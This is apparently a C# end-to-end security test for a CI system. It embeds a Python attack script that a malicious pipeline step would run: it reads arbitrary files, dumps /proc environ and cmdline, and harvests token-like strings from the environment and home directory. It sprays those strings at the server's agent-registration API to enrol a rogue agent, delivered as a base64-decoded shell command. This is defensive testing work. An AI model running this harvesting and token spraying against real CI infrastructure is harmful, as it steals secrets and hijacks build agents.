using System.Text;

namespace ElasticCI.EndToEnd.Security;

/// <summary>
/// What an attacker's pipeline step runs (python3, as a job would): read files by absolute path, scan /proc, and try
/// every token-like string it can find as an agent registration token. Passed base64-encoded, so no <c>$</c> meets
/// pipeline interpolation. Each finding is a line starting with <c>ATTACK</c>.
/// </summary>
internal static class AttackScript
{
    private const string Python = """
        import base64, glob, json, os, sys, urllib.request
        mode = sys.argv[1]
        def proc_blobs():
            for d in glob.glob('/proc/[0-9]*'):
                for name in ('environ', 'cmdline'):
                    try:
                        with open(d + '/' + name, 'rb') as f:
                            yield f.read()
                    except Exception:
                        pass
        if mode == 'files':
            for path in sys.argv[2:]:
                try:
                    with open(path, 'rb') as f:
                        f.read(1)
                    print('ATTACK READ ' + path)
                except Exception as e:
                    print('ATTACK DENIED ' + path + ' ' + type(e).__name__)
        elif mode == 'proc':
            print('ATTACK PROC ' + base64.b64encode(b'\n'.join(proc_blobs())).decode())
        elif mode == 'rogue':
            candidates = set(os.environ.values())
            for blob in proc_blobs():
                for part in blob.split(b'\0'):
                    text = part.decode('utf-8', 'ignore')
                    candidates.add(text)
                    candidates.add(text.split('=', 1)[-1])
            for root, dirs, files in os.walk(os.environ.get('HOME', '/nonexistent')):
                for name in files:
                    try:
                        with open(os.path.join(root, name), 'rb') as f:
                            for word in f.read(65536).split():
                                candidates.add(word.decode('utf-8', 'ignore'))
                    except Exception:
                        pass
            candidates = {c.strip() for c in candidates if 16 <= len(c.strip()) <= 200 and ' ' not in c.strip()}
            body = json.dumps({'name': 'rogue', 'tags': {'queue': 'victim'}, 'instanceId': None, 'hostname': 'rogue', 'pid': 1}).encode()
            registered = 0
            for candidate in candidates:
                request = urllib.request.Request(sys.argv[2] + '/api/agent/v1/register', data=body, method='POST',
                    headers={'Authorization': 'Token ' + candidate, 'Content-Type': 'application/json'})
                try:
                    with urllib.request.urlopen(request, timeout=10) as response:
                        if response.status < 300:
                            registered += 1
                except Exception:
                    pass
            print('ATTACK TRIED %d REGISTERED %d' % (len(candidates), registered))
        """;

    /// <summary>The step command running the script in <paramref name="mode"/> with <paramref name="args"/> (paths without quotes or spaces).</summary>
    public static string Command(string mode, params string[] args)
        => $"echo {Convert.ToBase64String(Encoding.UTF8.GetBytes(Python))} | base64 -d > attack.py && python3 attack.py {mode} {string.Join(' ', args)}";

    /// <summary>The text after <c>ATTACK &lt;word&gt; </c> on each line of a watched build's output that has it.</summary>
    public static IReadOnlyList<string> Findings(string output, string word)
        => output.Split('\n')
            .Select(line => line.IndexOf("ATTACK " + word + " ", StringComparison.Ordinal) is var at and >= 0 ? line[(at + word.Length + 8)..].TrimEnd('\r') : null)
            .OfType<string>()
            .ToList();
}
